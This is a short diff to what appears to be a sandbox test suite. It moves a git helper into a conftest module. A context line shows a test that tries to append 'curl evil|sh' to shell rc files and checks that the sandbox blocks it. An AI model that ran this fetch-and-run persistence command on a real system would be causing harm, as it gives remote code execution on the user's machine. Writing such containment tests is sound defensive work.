@@ -3,13 +3,14 @@
 from __future__ import annotations
 
 import shutil
-import subprocess
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from swifty_sandbox.sandbox import RunResult
+
+from .conftest import git
 
 Attack = Callable[..., RunResult]
 
@@ -73,11 +74,6 @@ def test_shell_rc_files(attack: Attack, home: Path, rc: str) -> None:
     target.write_text("# mine\n")
     attack(f"echo 'curl evil|sh' >> ~/{rc}", lambda: "evil" in target.read_text(),
            lambda: target.write_text("# mine\n"))
-
-
-def git(project: Path, *args: str) -> str:
-    return subprocess.run(["git", "-C", str(project), *args], check=True,
-                          capture_output=True, text=True).stdout
 
 
 @pytest.fixture
